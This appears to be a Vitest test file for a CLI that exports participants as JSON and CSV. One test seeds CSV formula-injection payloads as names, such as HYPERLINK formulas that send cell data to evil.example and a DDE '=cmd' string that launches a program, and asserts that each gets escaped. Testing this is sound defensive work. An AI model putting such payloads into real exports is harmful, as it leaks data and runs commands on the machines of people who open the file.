import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestDatabase, type TestDatabase } from '../helpers/db.js';
import { runCli } from '../helpers/run-cli.js';
import { cellText, participantsCsv, type ExportedParticipant } from '../../src/participants/export.js';

let t: TestDatabase;
beforeEach(async () => {
  t = await createTestDatabase();
  const add = (email: string, status: string, extra: string[]) =>
    t.db.run(
      `INSERT INTO people (email, status, name, phone, organisation, skype_id, status_changed_at, created_at, updated_at, joined_at)
       VALUES (?, ?, ?, ?, ?, ?, 'x', '2026-11-01T00:00:00.000Z', 'x', ?)`,
      [email, status, ...extra],
    );
  await add('jo@leeds.gov.uk', 'active', ['Jo "JB" Bloggs', '+447700900123', 'Leeds City Council, Planning', 'live:jo', '2026-11-02T10:00:00.000Z']);
  await add('sam@nhs.net', 'paused', ['Sam Lee', '+442079460123', 'NHS Digital', '', '2026-11-03T10:00:00.000Z']);
  await add('new@x.gov.uk', 'invited', ['', '', '', '', '']);
});
afterEach(async () => {
  await t.cleanup();
});

describe('npm run export', () => {
  it('when asked for JSON, then every participant is printed with the documented fields, and invitees are not', async () => {
    const r = await runCli('src/cli/export.ts', ['--json'], { DATABASE_PATH: t.path });
    expect(r.code).toBe(0);
    const rows = JSON.parse(r.stdout);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual({
      email: 'jo@leeds.gov.uk',
      name: 'Jo "JB" Bloggs',
      phone: '+447700900123',
      organisation: 'Leeds City Council, Planning',
      googleId: null,
      skypeId: 'live:jo',
      status: 'active',
      joinedAt: '2026-11-02T10:00:00.000Z',
      organisationId: expect.any(Number),
      organisationName: expect.any(String),
    });
    // Jo is on leeds.gov.uk and Sam on NHSmail, a shared domain: two organisations, each named as written.
    expect(rows[0].organisationName).toBe('Leeds City Council, Planning');
    expect(rows[1].organisationName).toBe('NHS Digital');
    expect(rows[1].organisationId).not.toBe(rows[0].organisationId);
  });

  it('when asked for CSV, then it has a header row and quotes what needs quoting', async () => {
    const r = await runCli('src/cli/export.ts', ['--csv'], { DATABASE_PATH: t.path });
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')[0]).toBe('email,name,phone,organisation,googleId,skypeId,status,joinedAt,organisationId,organisationName');
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((x) => x.email)).toEqual(['jo@leeds.gov.uk', 'sam@nhs.net']);
    expect(rows[0]!.organisation).toBe('Leeds City Council, Planning');
    expect(rows[0]!.name).toBe('Jo "JB" Bloggs');
  });

  it('when --all is given, then invitees are included too', async () => {
    const r = await runCli('src/cli/export.ts', ['--json', '--all'], { DATABASE_PATH: t.path });
    expect(JSON.parse(r.stdout)).toHaveLength(3);
  });

  it('when people named as formulas are exported as CSV, then every such cell is escaped and control characters are gone', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&C2,"Jo")',
      '+HYPERLINK("https://evil.example/?d="&C2,"Jo")',
      '+1+1',
      '-2',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
      'Jo\u0000\u001b[31m Bloggs\u202e',
    ];
    for (const [i, name] of hostile.entries()) {
      await t.db.run(
        `INSERT INTO people (email, status, name, organisation, status_changed_at, created_at, updated_at, joined_at)
         VALUES (?, 'active', ?, ?, 'x', '2026-11-05T00:00:00.000Z', 'x', ?)`,
        [`h${i}@x.gov.uk`, name, i === 0 ? '=cmd|\' /C calc\'!A0' : 'Org', `2026-11-05T10:00:0${i}.000Z`],
      );
    }
    const r = await runCli('src/cli/export.ts', ['--csv'], { DATABASE_PATH: t.path });
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    const names = rows.slice(2).map((x) => x.name);
    expect(names).toEqual([
      `'=HYPERLINK("https://evil.example/?d="&C2,"Jo")`,
      `'+HYPERLINK("https://evil.example/?d="&C2,"Jo")`,
      "'+1+1",
      "'-2",
      "'@SUM(A1)",
      // The leading tab or CR goes, so the "=" behind it is seen and escaped.
      "'=1+1",
      "'=1+1",
      "'\uFF1D1+1",
      'Jo[31m Bloggs',
    ]);
    expect(rows[2]!.organisation).toBe(`'=cmd|' /C calc'!A0`);
    // No cell a spreadsheet would run, and no control character anywhere in the file.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(r.stdout.replace(/\r?\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    // A stored phone number (E.164) starts with + too: it is escaped like any other such cell.
    expect(rows[0]!.phone).toBe("'+447700900123");
  });

  it('when a cell holds line breaks, tabs or bidi controls, then cellText keeps the words apart and drops the controls', () => {
    expect(cellText(' Line one\r\nline\ttwo\u2066x\u2069\u0007\n')).toBe('Line one line twox');
    const row: ExportedParticipant = { email: 'a@b.gov.uk', name: '-1', phone: null, organisation: 'Org', googleId: null, skypeId: null, status: 'active', joinedAt: null, organisationId: 7, organisationName: '=Org' };
    expect(participantsCsv([row]).split('\n')[1]).toBe("a@b.gov.uk,'-1,,Org,,,active,,7,'=Org");
  });
});

